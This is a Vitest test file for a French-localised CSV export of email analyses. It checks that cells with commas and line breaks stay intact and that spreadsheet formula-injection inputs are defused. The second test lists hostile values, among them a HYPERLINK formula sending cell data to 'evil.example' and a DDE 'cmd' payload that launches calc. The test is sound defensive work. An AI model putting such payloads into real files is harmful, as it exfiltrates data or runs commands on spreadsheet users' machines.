// @vitest-environment jsdom
/** "Download this page": the analyses as a spreadsheet reads them, mail-given text defused. */
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AnalysisSummary } from '../../contract/analyses';
import { i18next, initI18n } from '../../i18n/setup';
import { analysesPageCsv } from './page-csv';

beforeAll(() => initI18n('fr'));

const analysis = (name: string, metadata: AnalysisSummary['metadata'] = {}): AnalysisSummary => ({
  id: `id-${name.length}`,
  name,
  status: 'processed',
  inputType: 'email',
  createdAt: '2026-03-01T10:00:00.000Z',
  startedAt: null,
  finishedAt: null,
  anonymizedAt: null,
  metadata,
  manualFinalStatus: false,
  awaitingFinalStatus: false,
  fileCount: 1,
  sizeBytes: 2048,
  categories: [],
  extractedData: [],
  replyDraft: null,
});

const read = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '').trimEnd(), { newline: '\r\n' }).data;

describe('analysesPageCsv', () => {
  it('keeps names with commas, quotes and line breaks in their cells', () => {
    const t = i18next.getFixedT<['analyses', 'routes']>('fr', ['analyses', 'routes']);
    const [header, row] = read(analysesPageCsv(['name', 'status'], [analysis('Facture, "mars"\nclient é')], t, 'fr'));
    expect(header).toEqual([t('columns.name'), t('columns.status')]);
    expect(row).toEqual(['Facture, "mars"\nclient é', t('status.processed')]);
  });

  it('writes a mail subject or metadata that a spreadsheet would run as text', () => {
    const t = i18next.getFixedT<['analyses', 'routes']>('fr', ['analyses', 'routes']);
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1)', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1', ' =1', '＝1'];
    const rows = read(analysesPageCsv(['name', 'metadata'], hostile.map((name) => analysis(name)), t, 'fr')).slice(1);
    expect(rows.map((row) => row[0])).toEqual(hostile.map((name) => `'${name}`));
    const [, metadataRow] = read(analysesPageCsv(['metadata'], [analysis('ok', { '=cmd': 'x' })], t, 'fr'));
    expect(metadataRow).toEqual(["'=cmd: x"]);
  });
});
